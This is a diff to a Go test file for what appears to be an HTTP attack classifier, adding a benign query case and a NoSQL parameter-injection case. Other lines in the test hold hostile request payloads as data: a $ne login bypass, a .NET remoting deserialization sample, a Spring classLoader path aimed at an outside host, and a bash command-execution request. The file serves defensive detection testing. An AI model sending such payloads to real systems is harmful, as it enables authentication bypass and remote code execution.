@@ -32,6 +32,8 @@ func TestRequests(t *testing.T) {
 	f(attack.NoSQLi, "POST /login"+object+`{"user":"a","password":{"$ne":null}}`)
 	f(attack.None, "GET /lamps?price[$lt]=10&sort[price]=1 HTTP/1.1\r\n\r\n")
 	f(attack.None, "POST /search"+object+`{"filter":{"price":{"$lt":10}},"$schema":"x"}`)
+	f(attack.None, "POST /queries"+form+`{"requests":[{"index":"a","params":"q=lamp&page=1&analytics=true"},{"index":"b","params":"q=desk&page=2"}]}`)
+	f(attack.NoSQLi, "POST /queries"+form+`q=lamp&analytics=true%22%7D,%7B%22index%22:%22b%22,%22params%22:%22q`)
 	f(attack.RCE, "POST /s.rem HTTP/1.1\r\nHost: h\r\nContent-Type: application/octet-stream\r\n\r\n.NET\x01\x00\x00\x00\x00\x01\x00\x00\x00TextFormattingRunProperties\x0f")
 	f(attack.RCE, "POST /l.do"+form+"class.classLoader.resources.dirContext.docBase=//203.0.113.9/s")
 	f(attack.RCE, "GET /sse?command=bash&args=-c%20%22touch%20/tmp/k%22 HTTP/1.1\r\nHost: h\r\n\r\n")
